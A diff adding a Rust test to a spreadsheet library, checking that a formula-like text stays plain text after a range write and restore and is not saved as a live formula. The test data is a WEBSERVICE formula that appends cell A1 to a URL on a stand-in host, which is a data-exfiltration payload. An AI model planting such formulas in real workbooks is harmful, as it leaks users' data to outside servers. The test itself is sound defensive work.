@@ -368,3 +368,18 @@ fn long_ranges_are_read_in_pages() {
     );
     assert_eq!(read(&workbook, "Data!A:C", &[]).address, "Data!A1:A30");
 }
+
+#[test]
+fn a_text_that_looks_like_a_formula_comes_back_as_a_text() {
+    let mut workbook = sales();
+    let text = "=WEBSERVICE(\"https://x.example/?\"&A1)";
+    done(
+        &mut workbook,
+        json!({"op": "range.write", "range": "Data!A1", "cells": [[format!("'{text}")]]}),
+    );
+    let image = json!({"address": "Data!A1", "values": [[text]], "formulas": [[text]], "fingerprint": ""});
+    done(&mut workbook, json!({"op": "range.restore", "image": image}));
+    let sheet = part(&workbook, "xl/worksheets/sheet1.xml");
+    assert!(!sheet.contains("<f>WEBSERVICE"), "{sheet}");
+    assert_eq!(value(&workbook, "Data!A1"), CellValue::Text(text.to_owned()));
+}
